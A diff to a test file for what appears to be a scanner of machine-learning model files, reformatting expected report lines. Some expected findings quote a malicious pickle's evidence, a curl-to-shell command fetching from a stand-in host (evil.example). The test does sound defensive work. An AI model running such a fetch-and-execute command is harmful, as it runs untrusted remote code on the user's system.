@@ -25,9 +25,7 @@ describe('renderText', () => {
     // A file target is its own path, so its target is not named again.
     expect(lines).toContain('SUSPICIOUS extra/loader.pkl  pickle');
     expect(lines).toContain('ERROR      broken.npy  npy  [target models/]');
-    expect(lines).toContain(
-      "  critical pickle/dangerous-callable  unpickling calls os.system('curl … | sh')",
-    );
+    expect(lines).toContain("  critical pickle/dangerous-callable  unpickling calls os.system('curl … | sh')");
     expect(lines).toContain('      target: bert/bundle.zip!/pytorch_model.bin!/archive/data.pkl');
     expect(lines).toContain("      evidence: os.system('curl https://evil.example/x | sh')");
     expect(lines).toContain('  low      engine/parse-failed [fatal TRUNCATED]  the header ends after 40 of 118 bytes');
@@ -41,9 +39,7 @@ describe('renderText', () => {
   it('lists findings about a whole target before the files', () => {
     const targets = lines.indexOf('Targets');
     expect(targets).toBe(0);
-    expect(lines[1]).toBe(
-      '  medium   lock/extra-file  models/ has a file that modelgate.lock does not list: bert/bundle.zip',
-    );
+    expect(lines[1]).toBe('  medium   lock/extra-file  models/ has a file that modelgate.lock does not list: bert/bundle.zip');
     expect(lines[2]).toBe('      target: models/');
   });
 
